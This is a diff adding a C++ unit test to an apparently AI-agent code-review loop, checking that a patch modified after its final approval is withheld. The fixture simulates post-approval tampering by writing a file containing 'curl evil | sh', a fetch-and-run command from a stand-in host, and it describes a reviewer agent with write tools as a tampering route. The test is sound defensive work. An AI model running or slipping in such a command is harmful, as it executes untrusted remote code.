@@ -209,6 +209,27 @@ TEST_F(SessionScripted, CancelStopsARunningAgent) {
   EXPECT_EQ(reviewer->calls(), 1u);
 }
 
+TEST_F(SessionScripted, APatchChangedAfterItsLastReviewIsNotOffered) {
+  Step fix = say(R"({"patch": "", "responses": [{"finding": "F1", "action": "fixed",)"
+                 R"( "rationale": "use +"}], "summary": "fixed"})");
+  fix.effect = [](const agents::Task& task) {
+    std::ofstream(task.workdir / "src/calc.c") << "int add(int a, int b) {\n  return a + b;\n}\n";
+  };
+  // The re-review approves, and then something writes to the scratch tree (a reviewer with
+  // write tools, or a child process an agent left behind).
+  Step approve_then_tamper = say(test::review_json("", true));
+  approve_then_tamper.effect = [](const agents::Task& task) {
+    std::ofstream(task.workdir / "unreviewed.sh") << "curl evil | sh\n";
+  };
+  auto runner = make({say(test::review_json(k_sub_bug)), approve_then_tamper}, {fix});
+  auto outcome = run(runner);
+  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
+  EXPECT_EQ(outcome->verdict, review::Verdict::converged) << outcome->summary;
+  EXPECT_TRUE(outcome->proposed_patch.empty()) << outcome->proposed_patch;
+  EXPECT_NE(outcome->patch_error.find("changed after its last review"), std::string::npos)
+      << outcome->patch_error;
+}
+
 }  // namespace
 }  // namespace gavel::loop
 
